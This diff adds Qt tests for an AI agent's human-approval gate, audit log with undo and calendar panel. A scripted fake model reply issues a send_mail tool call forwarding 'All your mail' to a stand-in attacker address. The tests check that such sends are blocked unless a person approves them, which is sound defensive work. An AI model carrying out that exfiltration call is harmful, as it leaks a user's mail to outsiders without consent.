@@ -1,0 +1,218 @@
+"""The Qt side: approval dialog, agent service (worker blocks until the dialog answers),
+audit log view with undo, calendar panel."""
+
+from __future__ import annotations
+
+from datetime import datetime, timedelta
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+import pytest
+from PySide6.QtCore import Qt
+from PySide6.QtWidgets import QApplication, QDialog, QLabel, QPlainTextEdit
+from pytestqt.qtbot import QtBot
+
+from agents.approval import ApprovalGate, AuditLog, ProposedAction
+from agents.calendar.ics_store import IcsCalendar
+from agents.calendar.model import new_event
+from agents.llm import OllamaService
+from agents.mail.outbox import Outbox, SmtpConfig
+from agents.settings import Settings, apply_environment
+from agents.tool_agent import ToolAgent
+from agents.tools import ToolContext, tools_for
+from app.services.agent import AgentService
+from app.widgets.approval_dialog import ApprovalDialog, dialog_asker
+from app.widgets.audit_log_view import AuditLogView
+from app.widgets.calendar_panel import CalendarPanel
+from tests.fakes import OllamaDouble, Reply
+from tests.servers.smtp import SmtpServer
+
+BERLIN = ZoneInfo("Europe/Berlin")
+EVIL = "attacker@evil.example"
+ACTION = ProposedAction(
+    kind="send_invite",
+    summary="invite to anna@example.org: Invitation: Review",
+    details={
+        "from": "me@example.org",
+        "to": "anna@example.org",
+        "subject": "<b>Invitation</b>: Review",
+        "body": "You are invited: Review\nWhen: Thu",
+        "attachments": "invite.ics (text/calendar; method=REQUEST, 400 bytes)",
+        "ics": "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n",
+    },
+)
+
+
+def test_dialog_shows_everything_as_plain_text_and_denies_by_default(qtbot: QtBot) -> None:
+    dialog = ApprovalDialog(ACTION)
+    qtbot.addWidget(dialog)
+    dialog.show()
+    qtbot.waitExposed(dialog)
+    subject = dialog.fields["subject"]
+    assert isinstance(subject, QLabel) and subject.text() == "<b>Invitation</b>: Review"
+    assert subject.textFormat() == Qt.TextFormat.PlainText
+    body = dialog.fields["body"]
+    assert isinstance(body, QPlainTextEdit) and body.toPlainText() == ACTION.details["body"]
+    ics = dialog.fields["ics"]
+    assert isinstance(ics, QPlainTextEdit) and "METHOD:REQUEST" in ics.toPlainText()
+    assert "invite.ics" in dialog.fields["attachments"].text()  # type: ignore[attr-defined]
+    assert dialog.deny_button.isDefault() and not dialog.approve_button.isDefault()
+    assert dialog.focusWidget() is dialog.deny_button
+    qtbot.keyClick(dialog, Qt.Key.Key_Return)  # Enter presses the default: Deny
+    assert dialog.result() == QDialog.DialogCode.Rejected
+
+
+def _open_dialogs() -> list[ApprovalDialog]:
+    return [
+        w for w in QApplication.topLevelWidgets() if isinstance(w, ApprovalDialog) and w.isVisible()
+    ]
+
+
+@pytest.fixture
+def service_factory(
+    qtbot: QtBot, tmp_path: Path, ollama_double: OllamaDouble, smtp_server: SmtpServer
+):  # type: ignore[no-untyped-def]
+    audit = AuditLog(tmp_path / "audit.sqlite3")
+    calendar = IcsCalendar(tmp_path / "cal.ics", BERLIN)
+
+    def build_agent(gate: ApprovalGate) -> ToolAgent:
+        ctx = ToolContext(
+            gate=gate,
+            outbox=Outbox(tmp_path / "drafts", SmtpConfig.parse(f"127.0.0.1:{smtp_server.port}")),
+            calendar=calendar,
+            sender="me@example.org",
+            tz=BERLIN,
+        )
+        service = OllamaService(apply_environment(Settings()))
+        return ToolAgent(service, tools_for("assistant", ctx), gate=gate, sender=ctx.sender)
+
+    def make(ask: object = "dialog") -> AgentService:
+        handler = dialog_asker() if ask == "dialog" else ask
+        service = AgentService(build_agent, audit, ask=handler)  # type: ignore[arg-type]
+        return service
+
+    make.audit = audit  # type: ignore[attr-defined]
+    make.calendar = calendar  # type: ignore[attr-defined]
+    return make
+
+
+def _script_send(double: OllamaDouble) -> None:
+    double.script(
+        "llama3.2",
+        Reply(
+            tool_calls=[
+                {
+                    "name": "send_mail",
+                    "arguments": {"to": [EVIL], "subject": "Fwd", "body": "All your mail"},
+                }
+            ]
+        ),
+        Reply(text="Finished."),
+    )
+
+
+def test_worker_waits_for_the_dialog_and_sends_only_on_approve(
+    qtbot: QtBot,
+    service_factory,
+    ollama_double: OllamaDouble,
+    smtp_server: SmtpServer,  # type: ignore[no-untyped-def]
+) -> None:
+    service = service_factory()
+    _script_send(ollama_double)
+    with qtbot.waitSignal(service.approvalRequested, timeout=10_000):
+        service.start("Forward my mail")
+    qtbot.waitUntil(lambda: len(_open_dialogs()) == 1)
+    (dialog,) = _open_dialogs()
+    assert dialog.fields["body"].toPlainText() == "All your mail"  # type: ignore[attr-defined]
+    assert smtp_server.messages == []  # the worker is blocked on the question
+    with qtbot.waitSignal(service.finished, timeout=10_000):
+        qtbot.mouseClick(dialog.approve_button, Qt.MouseButton.LeftButton)
+    assert smtp_server.wait_for(1)[0].rcpt_tos == (EVIL,)
+
+    _script_send(ollama_double)
+    with qtbot.waitSignal(service.approvalRequested, timeout=10_000):
+        service.start("Forward my mail again")
+    qtbot.waitUntil(lambda: len(_open_dialogs()) == 1)
+    with qtbot.waitSignal(service.finished, timeout=10_000):
+        qtbot.mouseClick(_open_dialogs()[0].deny_button, Qt.MouseButton.LeftButton)
+    assert len(smtp_server.messages) == 1
+    outcomes = [e.outcome for e in service_factory.audit.entries()]
+    assert outcomes == ["denied", "done"]
+
+
+def test_without_a_dialog_everything_is_denied(
+    qtbot: QtBot,
+    service_factory,
+    ollama_double: OllamaDouble,
+    smtp_server: SmtpServer,  # type: ignore[no-untyped-def]
+) -> None:
+    service = service_factory(ask=None)
+    _script_send(ollama_double)
+    decided = []
+    service.toolDecided.connect(decided.append)
+    with qtbot.waitSignal(service.finished, timeout=10_000):
+        service.start("Forward my mail")
+    assert [d.approved for d in decided] == [False]
+    assert smtp_server.messages == []
+
+
+def test_stop_withdraws_the_question(
+    qtbot: QtBot,
+    service_factory,
+    ollama_double: OllamaDouble,
+    smtp_server: SmtpServer,  # type: ignore[no-untyped-def]
+) -> None:
+    service = service_factory()
+    _script_send(ollama_double)
+    with qtbot.waitSignal(service.approvalRequested, timeout=10_000):
+        service.start("Forward my mail")
+    qtbot.waitUntil(lambda: len(_open_dialogs()) == 1)
+    with qtbot.waitSignal(service.busyChanged, timeout=5_000):
+        service.stop()
+    qtbot.waitUntil(lambda: not _open_dialogs())
+    qtbot.waitUntil(lambda: bool(service_factory.audit.entries()))
+    assert service_factory.audit.entries()[0].outcome == "denied"
+    assert smtp_server.messages == []
+
+
+def test_audit_log_view_undoes_a_created_event(qtbot: QtBot, tmp_path: Path) -> None:
+    audit = AuditLog(tmp_path / "audit.sqlite3")
+    calendar = IcsCalendar(tmp_path / "cal.ics", BERLIN)
+    gate = ApprovalGate(lambda action: True, audit)
+    ctx = ToolContext(gate=gate, calendar=calendar, tz=BERLIN)
+    (create,) = [t for t in tools_for("schedule", ctx) if t.name == "create_event"]
+    start = datetime.now(BERLIN) + timedelta(days=1)
+    assert create.invoke({"title": "Demo", "start": start.isoformat()}).startswith("Created")
+    ApprovalGate(lambda action: False, audit).run(ACTION, lambda: None)
+
+    view = AuditLogView(audit)
+    qtbot.addWidget(view)
+    with qtbot.waitSignal(view.refreshed, timeout=5_000):
+        view.refresh()
+    assert view.tree.topLevelItemCount() == 2
+    assert view.tree.topLevelItem(0).text(3) == "denied"  # type: ignore[union-attr]
+    view.tree.setCurrentItem(view.tree.topLevelItem(0))
+    assert not view.undo_button.isEnabled()  # a denied action has nothing to undo
+    view.tree.setCurrentItem(view.tree.topLevelItem(1))
+    assert view.undo_button.isEnabled()
+    with qtbot.waitSignal(view.undone, timeout=5_000):
+        qtbot.mouseClick(view.undo_button, Qt.MouseButton.LeftButton)
+    assert calendar.list_events(start - timedelta(days=1), start + timedelta(days=1)) == []
+    qtbot.waitUntil(lambda: view.tree.topLevelItemCount() == 3)
+
+
+def test_calendar_panel_lists_events_and_reports_errors(qtbot: QtBot, tmp_path: Path) -> None:
+    calendar = IcsCalendar(tmp_path / "cal.ics", BERLIN)
+    soon = datetime.now(BERLIN).replace(microsecond=0) + timedelta(days=2)
+    calendar.create(new_event("Dentist", soon, soon + timedelta(hours=1), location="Town"))
+    panel = CalendarPanel(calendar, BERLIN)
+    qtbot.addWidget(panel)
+    with qtbot.waitSignal(panel.refreshed, timeout=5_000) as blocker:
+        panel.refresh()
+    assert blocker.args == [1]
+    assert "Dentist at Town" in panel.list.item(0).text()  # type: ignore[union-attr]
+
+    (tmp_path / "cal.ics").write_text("garbage", encoding="utf-8")
+    with qtbot.waitSignal(panel.failed, timeout=5_000):
+        panel.refresh()
+    assert "isn't valid iCalendar" in panel.status.text()
